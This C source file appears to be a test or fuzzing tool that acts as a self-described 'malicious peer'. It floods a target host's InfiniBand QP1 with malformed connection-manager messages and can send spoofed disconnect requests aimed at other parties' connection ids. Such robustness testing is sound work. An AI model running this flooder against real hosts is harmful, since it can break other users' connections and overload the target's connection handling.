/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A malicious peer: writes MADs to another host's QP1 through umad, with an agent that can only
 * send. The messages follow from a seed, so that a run can be repeated.
 *
 * flood DEVICE GID-INDEX DGID COUNT KIND LOCAL-ID REMOTE-ID OWN-ADDR DST-ADDR
 */
#include <arpa/inet.h>
#include <infiniband/umad.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "mad/cm_msg.h"
#include "mad/cma_hdr.h"

#define QP1	    1
#define VICTIM_PORT 7501

static uint64_t random_state = 88172645463325252;
static uint32_t known_id[2]; /* comm ids of a connection of others */
static struct in_addr own, victim;
static const char *kind;

static uint32_t draw(void)
{
	random_state ^= random_state << 13;
	random_state ^= random_state >> 7;
	random_state ^= random_state << 17;
	return (uint32_t)(random_state >> 16);
}

static void draw_bytes(void *to, size_t bytes)
{
	uint8_t *at = to;

	while (bytes--)
		*at++ = (uint8_t)draw();
}

/* Half of the attacker's guesses are right. */
static uint32_t some_id(int which)
{
	return draw() % 2 ? known_id[which] : draw();
}

/* --- nearly valid REQs --------------------------------------------------- */

static void set_gid(struct mad_gid *gid, struct in_addr addr)
{
	memset(gid, 0, sizeof(*gid));
	gid->raw[10] = 0xff;
	gid->raw[11] = 0xff;
	memcpy(gid->raw + 12, &addr, sizeof(addr));
}

static void make_good_req(struct cm_msg *msg, struct cma_hdr *hdr)
{
	struct cm_req *req = &msg->req;

	cm_msg_init(msg, CM_ATTR_REQ, draw());
	req->local_comm_id = draw();
	req->service_id = cma_service_id(0x0106, VICTIM_PORT);
	req->local_ca_guid = 0x1234;
	req->local_qpn = draw() & 0xffffff;
	req->local_cm_response_timeout = 20;
	req->remote_cm_response_timeout = 20;
	req->retry_count = 7;
	req->path_mtu = 3;
	req->pkey = 0xffff;
	req->max_cm_retries = 15;
	req->primary.hop_limit = 64;
	req->primary.local_ack_timeout = 18;
	set_gid(&req->primary.local_gid, own);
	set_gid(&req->primary.remote_gid, victim);
	*hdr = (struct cma_hdr){ .ip_version = 4, .src_port = 1 };
	memcpy(hdr->src_addr + 12, &own, 4);
	memcpy(hdr->dst_addr + 12, &victim, 4);
}

static void spoil_req(struct cm_msg *msg, struct cma_hdr *hdr)
{
	struct cm_req *req = &msg->req;

	switch (draw() % 10) {
	case 0:
		hdr->cma_version = (uint8_t)(1 + draw() % 15);
		break;
	case 1:
		hdr->ip_version = (uint8_t)(7 + draw() % 9);
		break;
	case 2:
		draw_bytes(hdr->dst_addr, sizeof(hdr->dst_addr));
		break;
	case 3:
		draw_bytes(hdr->src_addr, sizeof(hdr->src_addr));
		break;
	case 4:
		req->service_id = (uint64_t)draw() << 32 | draw();
		break;
	case 5:
		req->local_ca_guid = 0;
		req->local_comm_id = 0;
		break;
	case 6:
		req->local_qpn = 0x42; /* repeated: stale */
		break;
	case 7:
		memset(&req->primary.local_gid, 0, sizeof(req->primary.local_gid));
		break;
	case 8:
		draw_bytes(&req->primary.remote_gid, sizeof(req->primary.remote_gid));
		break;
	case 9:
		req->transport_service_type = (uint8_t)(draw() % 4);
		req->path_mtu = (uint8_t)(draw() % 16);
		break;
	}
}

static void make_req(uint8_t mad[MAD_BYTES])
{
	struct cma_hdr hdr;
	struct cm_msg msg;

	make_good_req(&msg, &hdr);
	spoil_req(&msg, &hdr);
	wire_encode(&cma_hdr_layout, &hdr, msg.req.private_data);
	cm_msg_encode(&msg, mad);
}

/* --- other messages ------------------------------------------------------ */

/* The ids are in the same place in all messages but SIDR's. */
static void make_any(uint8_t mad[MAD_BYTES], enum cm_attr attr)
{
	struct cm_msg msg;

	cm_msg_init(&msg, attr, draw());
	draw_bytes(&msg.rtu, sizeof(msg) - offsetof(struct cm_msg, rtu));
	msg.rtu.local_comm_id = some_id(1);
	msg.rtu.remote_comm_id = some_id(0);
	if (attr == CM_ATTR_MRA)
		msg.mra.message = (uint8_t)(draw() % 4);
	if (attr == CM_ATTR_REJ) {
		msg.rej.message = (uint8_t)(draw() % 4);
		msg.rej.reason = (uint16_t)(draw() % 40);
	}
	cm_msg_encode(&msg, mad);
}

static void make_noise(uint8_t mad[MAD_BYTES])
{
	draw_bytes(mad, MAD_BYTES);
	mad[0] = 1; /* base version */
	mad[1] = MAD_CLASS_CM;
	mad[2] = MAD_CM_VERSION;
	mad[3] = MAD_METHOD_SEND;
	if (draw() % 2)
		mad[16] = 0;
}

/* Return: number of bytes to send. */
static size_t make_mad(uint8_t mad[MAD_BYTES])
{
	static const enum cm_attr attrs[] = { CM_ATTR_MRA, CM_ATTR_REJ,	    CM_ATTR_REP,
					      CM_ATTR_RTU, CM_ATTR_DREQ,    CM_ATTR_DREP,
					      CM_ATTR_LAP, CM_ATTR_APR,	    CM_ATTR_SIDR_REQ,
					      CM_ATTR_REQ, CM_ATTR_SIDR_REP };
	uint32_t what = draw() % 20;

	memset(mad, 0, MAD_BYTES);
	if (strcmp(kind, "dreq") == 0)
		make_any(mad, CM_ATTR_DREQ);
	else if (what < 6)
		make_req(mad);
	else if (what < 17)
		make_any(mad, attrs[what - 6]);
	else
		make_noise(mad);
	return what == 19 ? 36 + draw() % (MAD_BYTES - 36) : MAD_BYTES;
}

static int open_sender(const char *device, uint32_t *agent)
{
	struct umad_reg_attr attr = { .mgmt_class = MAD_CLASS_CM,
				      .mgmt_class_version = MAD_CM_VERSION };
	int fd;

	umad_init();
	fd = umad_open_port(device, 1);
	if (fd < 0 || umad_register2(fd, &attr, agent)) {
		perror("flood: umad");
		exit(1);
	}
	return fd;
}

static int flood(int fd, uint32_t agent, int gid_index, const char *dgid, long count)
{
	uint8_t buffer[sizeof(struct ib_user_mad) + MAD_BYTES]
		__attribute__((aligned(__alignof__(struct ib_user_mad))));
	struct ib_user_mad *head = (struct ib_user_mad *)buffer;
	long i, n_failed = 0;
	size_t bytes;

	memset(head, 0, sizeof(*head));
	head->agent_id = agent;
	head->addr.qpn = htonl(QP1);
	head->addr.qkey = htonl(0x80010000);
	head->addr.grh_present = 1;
	head->addr.gid_index = (uint8_t)gid_index;
	head->addr.hop_limit = 64;
	inet_pton(AF_INET6, dgid, head->addr.gid);
	for (i = 0; i < count; i++) {
		bytes = make_mad(buffer + sizeof(*head));
		/* The kernel refuses a transaction id that is still outstanding. */
		*(uint32_t *)(void *)(buffer + sizeof(*head) + 12) = htonl((uint32_t)i);
		if (write(fd, buffer, sizeof(*head) + bytes) < 0)
			n_failed++;
	}
	printf("%ld sent, %ld refused by the kernel\n", count - n_failed, n_failed);
	return 0;
}

int main(int argc, char **argv)
{
	uint32_t agent;
	int fd;

	if (argc < 10) {
		fputs("usage: flood DEVICE GID-INDEX DGID COUNT any|dreq LOCAL-ID REMOTE-ID OWN-ADDR "
		      "VICTIM-ADDR\n",
		      stderr);
		return 2;
	}
	kind = argv[5];
	known_id[0] = (uint32_t)strtoul(argv[6], NULL, 16);
	known_id[1] = (uint32_t)strtoul(argv[7], NULL, 16);
	if (inet_pton(AF_INET, argv[8], &own) != 1 || inet_pton(AF_INET, argv[9], &victim) != 1)
		return 2;
	fd = open_sender(argv[1], &agent);
	return flood(fd, agent, atoi(argv[2]), argv[3], atol(argv[4]));
}
